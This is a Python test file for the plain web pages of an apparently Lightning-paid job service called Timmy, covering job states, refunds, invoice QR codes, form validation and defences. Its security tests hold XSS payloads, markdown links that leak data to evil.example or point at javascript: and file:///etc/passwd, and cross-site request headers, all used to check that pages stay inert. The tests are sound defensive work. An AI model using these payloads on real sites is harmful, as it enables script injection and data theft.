"""The plain page: every state in words, nothing that acts, and what was typed stays."""

from __future__ import annotations

import base64
import io
from dataclasses import replace

import pytest
import zxingcpp
from PIL import Image
from tests.contract.http_desk import World
from tests.contract.plain_reader import ACTS_ON_A_PAGE, Browser, Reader, harmless

from timmy.jobs.model import JobView, RefundState, RefundView, State
from timmy.lightning.wallets.protocol import WalletDown
from timmy.money import Msats, Sats
from timmy.settings import Settings
from timmy.web.plain.answers import answer

EVIL = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><a href='javascript:alert(1)'>x</a>"


async def ordered(world: World, request: str = "Why?") -> tuple[Browser, str]:
    browser = Browser(world.client())
    page = await browser.open("/api/ui")
    await browser.send(page.form("/api/ui/jobs"), request=request)
    return browser, browser.path.rpartition("/")[2]


async def test_each_state_of_a_job_has_a_page_of_its_own() -> None:
    world = World.build(steps=True)
    browser, job_id = await ordered(world)
    page = await browser.again()
    assert (page.heading, page.refreshes) == ("Pay the check fee", True)
    assert "10 sats" in page.text
    page = await browser.send(page.form("/paid"))
    assert (page.heading, page.refreshes) == ("Timmy is reading", True)
    await world.desk.judge(job_id)
    page = await browser.again()
    assert (page.heading, page.refreshes) == ("The price of the work", True)
    assert all(words in page.text for words in ("21 sats", "Margin 40 %", "timmy-demo", "$0.001"))
    page = await browser.send(page.form("/paid"))
    await world.desk.say(job_id, "progress", "Once <b>upon</b>")
    page = await browser.again()
    assert (page.heading, page.refreshes) == ("Timmy is working", True)
    assert "Once <b>upon</b>" in page.text
    harmless(browser, page)
    await world.desk.work(job_id)
    page = await browser.again()
    assert (page.heading, page.refreshes) == ("Done", False)
    assert all(words in page.text for words in ("An answer.", "Work, paid 21 sats", "Back to you 10 sats", "10 sats are yours again"))
    assert f"/api/jobs/{job_id}/receipt" in page.links()
    harmless(browser, page)


async def test_a_page_that_looks_again_can_be_made_to_stay_as_it_is() -> None:
    browser, _ = await ordered(World.build(steps=True))
    path = browser.path
    page = await browser.again()
    assert (page.refreshes, "?still=1" in page.links()) == (True, True)
    page = await browser.open(f"{path}?still=1")
    assert (page.refreshes, "?" in page.links()) == (False, True)
    assert "Mark as paid" in page.text


async def test_a_refusal_says_why_and_what_the_fee_has_bought() -> None:
    world = World.build(steps=True)
    browser, job_id = await ordered(world, "please reject this")
    await browser.send((await browser.again()).form("/paid"))
    await world.desk.judge(job_id)
    page = await browser.again()
    assert (page.heading, page.refreshes) == ("Timmy will not do this", False)
    assert "You asked for it." in page.text
    assert "10 sats paid for reading" in page.text


async def test_a_failure_gives_all_of_it_back_and_can_be_tried_again() -> None:
    world = World.build(steps=True)
    browser, job_id = await ordered(world, "please fail")
    for step in (world.desk.judge, world.desk.work):
        await browser.send((await browser.again()).form("/paid"))
        await step(job_id)
    page = await browser.again()
    assert page.heading == "It did not work out"
    assert "21 sats are yours again" in page.text
    again = page.form("/api/ui/jobs")
    assert again.fields["request"] == "please fail"
    assert (await browser.send(again)).heading == "Pay the check fee"
    assert job_id not in browser.path


async def test_who_is_too_late_is_told_not_to_pay_twice_and_gets_what_came_late() -> None:
    world = World.build(steps=True)
    browser, job_id = await ordered(world)
    job = world.desk.jobs[job_id]
    world.desk.jobs[job_id] = replace(job, state=State.EXPIRED, reason="It was not paid in time.")
    page = await browser.again()
    assert (page.heading, page.refreshes) == ("The time to pay is over", False)
    assert "we still check for a late payment" in page.text
    assert page.form("/api/ui/jobs").fields["request"] == "Why?"
    owed = RefundView(RefundState.PENDING, Sats(10), Sats(0), Msats(0), None, None)
    world.desk.jobs[job_id] = replace(world.desk.jobs[job_id], refund=owed)
    page = await browser.again()
    assert "10 sats are yours again" in page.text
    assert page.form("/refund")


@pytest.mark.parametrize(
    ("refund", "told", "refreshes"),
    [
        (RefundView(RefundState.PENDING, Sats(10), Sats(0), Msats(0), "invoice", None), "10 sats are on their way to you", True),
        (RefundView(RefundState.PAID, Sats(0), Sats(10), Msats(0), None, None), "✓ 10 sats were sent back to you", False),
        (RefundView(RefundState.PENDING, Sats(10), Sats(0), Msats(0), None, "no route"), "did not arrive: no route", False),
    ],
)
async def test_how_far_a_refund_has_got_is_told(refund: RefundView, told: str, refreshes: bool) -> None:
    world = World.build(steps=True)
    browser, job_id = await ordered(world)
    world.desk.jobs[job_id] = replace(world.desk.jobs[job_id], state=State.COMPLETE, result="x", refund=refund)
    page = await browser.again()
    assert told in page.text
    assert page.refreshes is refreshes


async def test_the_code_that_is_shown_is_the_invoice() -> None:
    world = World.build(steps=True)
    browser, job_id = await ordered(world)
    page = await browser.again()
    invoice = world.desk.jobs[job_id].eval_invoice.payment_request
    picture = next(given["src"] for tag, given in page.elements if tag == "img")
    shown = Image.open(io.BytesIO(base64.b64decode(picture.partition(",")[2]))).convert("L")
    (code,) = zxingcpp.read_barcodes(shown, formats=zxingcpp.barcode_formats_from_str("QRCode"))
    assert code.text == f"LIGHTNING:{invoice.upper()}"
    assert f"lightning:{invoice}" in page.links()
    assert invoice in page.text


async def test_a_form_that_is_sent_twice_makes_one_job() -> None:
    world = World.build(steps=True)
    browser = Browser(world.client())
    form = (await browser.open("/api/ui")).form("/api/ui/jobs")
    await browser.send(form, request="Why?")
    first = browser.path
    await browser.send(form, request="Why?")
    assert browser.path == first
    assert len(world.desk.jobs) == 1
    page = await browser.send(form, request="Something else")
    assert browser.status == 422
    assert page.form("/api/ui/jobs").fields["request"] == "Something else"
    assert (await browser.send(page.form("/api/ui/jobs"))).heading == "Pay the check fee"


async def test_a_post_is_answered_with_a_way_and_not_with_a_page() -> None:
    world = World.build(steps=True)
    browser, job_id = await ordered(world)
    form = (await browser.open("/api/ui")).form("/api/ui/jobs")
    answer = await browser.http.post(form.action, data={**form.fields, "request": "Why?"})
    assert answer.status_code == 303
    assert answer.headers["location"].startswith("/api/ui/jobs/")
    assert (await browser.http.post(f"/api/ui/jobs/{job_id}/paid", data={"a": "b"})).status_code == 303


@pytest.mark.parametrize(
    ("request_text", "told"),
    [("", "request is empty"), ("   ", "request is empty"), ("x" * 501, "at most 500 characters"), ("a\0b", "NUL")],
)
async def test_what_is_wrong_is_said_in_words_and_what_was_typed_stays(request_text: str, told: str) -> None:
    browser = Browser(World.build().client())
    page = await browser.open("/api/ui")
    page = await browser.send(page.form("/api/ui/jobs"), request=request_text, refundTo="me@wallet.example")
    assert browser.status == 422
    assert told in page.alert
    if "\0" not in request_text:
        assert page.form("/api/ui/jobs").fields["request"] == request_text
        assert page.form("/api/ui/jobs").fields["refundTo"] == "me@wallet.example"
    harmless(browser, page)


async def test_lines_count_as_they_were_typed_and_not_as_they_travel() -> None:
    browser = Browser(World.build(steps=True).client())
    page = await browser.open("/api/ui")
    text = "\n" * 250 + "x" * 250
    page = await browser.send(page.form("/api/ui/jobs"), request=text.replace("\n", "\r\n"))
    assert page.heading == "Pay the check fee"


async def test_an_estimate_orders_nothing_and_keeps_the_text() -> None:
    world = World.build()
    browser = Browser(world.client())
    form = (await browser.open("/api/ui")).form("/api/ui/jobs")
    page = await browser.send(replace(form, action="/api/ui/estimate"), request="Why?")
    assert "Work, about 21 sats" in page.text
    assert "Check fee, paid first 10 sats" in page.text
    assert page.form("/api/ui/jobs").fields["request"] == "Why?"
    assert world.desk.jobs == {}


async def test_the_pool_is_shown_to_everybody() -> None:
    page = await Browser(World.build().client()).open("/api/ui")
    assert "9,000 of 10,000 sats are free to give" in page.text
    assert next(given for tag, given in page.elements if tag == "meter")["value"] == "9000"


async def test_an_outage_keeps_the_text_and_says_when_to_try_again(monkeypatch: pytest.MonkeyPatch) -> None:
    world = World.build()

    async def down(*_args: object, **_named: object) -> JobView:
        raise WalletDown("The wallet does not answer. Try again in a moment.")

    monkeypatch.setattr(world.desk, "submit", down)
    browser = Browser(world.client())
    page = await browser.send((await browser.open("/api/ui")).form("/api/ui/jobs"), request="Why?")
    assert browser.status == 503
    assert browser.headers["retry-after"] == "5"
    assert "does not answer" in page.alert
    assert page.form("/api/ui/jobs").fields["request"] == "Why?"


@pytest.mark.parametrize("path", ["/api/ui/jobs/none", "/api/ui/jobs/%00", "/api/ui/sessions/none", "/api/ui/sessions/%F0%9F"])
async def test_what_is_not_there_gets_a_page_too(path: str) -> None:
    browser = Browser(World.build().client())
    page = await browser.open(path)
    assert browser.status == 404
    assert "no job with this id" in page.text or "no session with this id" in page.text
    harmless(browser, page)


# Nothing that acts -------------------------------------------------------------------------------------------


@pytest.mark.fault("H01", "H03", "H12")
async def test_nothing_that_anybody_wrote_acts_on_a_page() -> None:
    world = World.build(steps=True)
    browser, job_id = await ordered(world, EVIL)
    job = world.desk.jobs[job_id]
    refund = RefundView(RefundState.PENDING, Sats(10), Sats(0), Msats(0), None, EVIL)
    for shown in (
        job,
        replace(job, state=State.EVALUATING, waiting=EVIL),
        replace(job, state=State.REJECTED, reason=EVIL),
        replace(job, state=State.FAILED, reason=EVIL, refund=refund),
        replace(job, state=State.COMPLETE, result=EVIL, refund=refund, refund_to=EVIL),
        replace(job, state=State.COMPLETE, result=EVIL, refund=replace(refund, trouble=None), refund_to=EVIL),
        replace(job, state=State.EXPIRED, reason=EVIL),
    ):
        world.desk.jobs[job_id] = shown
        page = await browser.again()
        harmless(browser, page)
        assert EVIL in page.text
    page = await browser.send((await browser.open("/api/ui")).form("/api/ui/jobs"), request=EVIL * 5, refundTo=EVIL)
    assert browser.status == 422
    harmless(browser, page)
    page = await browser.send((await browser.open("/api/ui")).form("/api/ui/sessions/key"), macaroon=EVIL)
    harmless(browser, page)
    assert page.form("/sessions/key").fields["macaroon"] == EVIL


@pytest.mark.fault("H01", "H03")
@pytest.mark.parametrize(
    "text",
    [
        EVIL,
        "![cat](https://evil.example/?q=secret)",
        "![x](data:image/svg+xml;base64,AAAA) ![][1]\n\n[1]: https://evil.example/a.png",
        "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](\tjavascript:alert(1)) [d](data:text/html;base64,AAAA) [v](vbscript:x)",
        "[x](&#106;avascript:alert(1)) <javascript:alert(1)> [f](file:///etc/passwd) [r](//evil.example)",
        '[t](https://fine.example "onmouseover=alert(1)")',
        "<https://fine.example/?a=1&b=<script>>",
        "```html\n<script>alert(1)</script>\n```",
        "| a | b |\n|---|---|\n| <b>x</b> | [y](javascript:1) |",
        "# <img src=x onerror=alert(1)>",
        "&lt;script&gt; &#60;script&#62;",
    ],
)
def test_no_answer_acts_loads_or_misleads(text: str) -> None:
    page = Reader(str(answer(text)))
    assert page.tags() & (ACTS_ON_A_PAGE | {"img", "h1", "h2", "form", "input"}) == set()
    for tag, given in page.elements:
        assert set(given) <= {"class", "href", "rel"}, (tag, given)
        if tag == "a":
            assert given["href"].startswith(("https://", "http://"))
            assert given["rel"] == "nofollow noopener noreferrer"


def test_a_verse_keeps_its_lines() -> None:
    assert "pond<br>\na frog" in answer("old pond\na frog leaps in").text


def test_an_answer_is_read_as_markdown() -> None:
    page = Reader(str(answer("# Top\n\n- one\n- **two** and `three`\n\n[a](https://fine.example)\n\n| x |\n|---|\n| 1 |")))
    assert {"h3", "ul", "li", "strong", "code", "a", "table"} <= page.tags()
    assert "<script>" in Reader(str(answer("<script>" + "x" * 70_000))).text


@pytest.mark.fault("H08")
@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site", "Origin": "http://timmy.test"},
        {"Sec-Fetch-Site": "same-site"},
    ],
)
async def test_a_page_of_another_site_sends_none_of_our_forms(headers: dict[str, str]) -> None:
    world = World.build(steps=True)
    browser, job_id = await ordered(world)
    for path in ("/api/ui/jobs", "/api/ui/estimate", "/api/ui/sessions", f"/api/ui/jobs/{job_id}/refund", f"/api/ui/jobs/{job_id}/paid"):
        answer = await browser.http.post(path, data={"request": "Why?", "amountSats": "500", "to": "a@b.example"}, headers=headers)
        assert answer.status_code == 403, path
        assert "page of another site" in answer.text
    assert len(world.desk.jobs) == 1


async def test_a_form_of_this_site_is_taken_however_it_is_reached() -> None:
    world = World.build(Settings(public_url="https://timmy.example"), steps=True)
    for headers in ({"Origin": "http://timmy.test"}, {"Origin": "https://timmy.example"}, {"Sec-Fetch-Site": "none"}, {}):
        answer = await world.client().post("/api/ui/jobs", data={"request": "Why?"}, headers=headers)
        assert answer.status_code == 303, headers


@pytest.mark.fault("F02", "F03")
@pytest.mark.parametrize(
    ("body", "content_type", "status"),
    [
        (b"request=%ff", "application/x-www-form-urlencoded", 400),
        (b"request", "application/x-www-form-urlencoded", 400),
        ("request=ü".encode(), "application/x-www-form-urlencoded", 400),
        (b"&".join(b"a%d=1" % n for n in range(50)), "application/x-www-form-urlencoded", 400),
        (b"request=a&request=b", "application/x-www-form-urlencoded", 422),
        (b"request=%00", "application/x-www-form-urlencoded", 422),
        (b"request=" + b"x" * 70_000, "application/x-www-form-urlencoded", 413),
        (b'{"request": "Why?"}', "application/json", 415),
        (b"", "application/x-www-form-urlencoded", 422),
    ],
)
async def test_a_form_that_is_none_is_refused_on_a_page(body: bytes, content_type: str, status: int) -> None:
    answer = await World.build().client().post("/api/ui/jobs", content=body, headers={"Content-Type": content_type})
    assert answer.status_code == status
    assert answer.headers["content-type"] == "text/html; charset=utf-8"


async def test_the_stylesheet_is_kept_for_ever_under_a_name_of_its_own() -> None:
    browser = Browser(World.build().client())
    page = await browser.open("/api/ui")
    (sheet,) = [given["href"] for tag, given in page.elements if tag == "link"]
    style = await browser.http.get(sheet)
    assert style.headers["content-type"] == "text/css; charset=utf-8"
    assert "immutable" in style.headers["cache-control"]
    assert "url(" not in style.text
    assert "@import" not in style.text


async def test_without_development_routes_nothing_can_be_marked_as_paid() -> None:
    world = World.build(dev=False, steps=True)
    browser, job_id = await ordered(world)
    assert "Test mode" not in (await browser.again()).text
    assert (await browser.http.post(f"/api/ui/jobs/{job_id}/paid", data={"a": "b"})).status_code == 404


async def test_a_customer_is_told_what_a_test_means_to_them_and_not_how_to_earn() -> None:
    world = World.build()
    world.parts[:] = [replace(part, stand_in=f"{part.name}: a stand-in. Set {part.name.upper()} to earn.") for part in world.parts]
    page = await Browser(world.client()).open("/api/ui")
    assert "nothing real is paid here" in page.text
    assert "not from a language model" in page.text
    assert page.text.count("Test mode") == 2, "a stand-in for the database is nothing to a customer"
    assert "Set " not in page.text
    world.parts[:] = [replace(part, stand_in=None) for part in world.parts]
    assert "Test mode" not in (await Browser(world.client()).open("/api/ui")).text
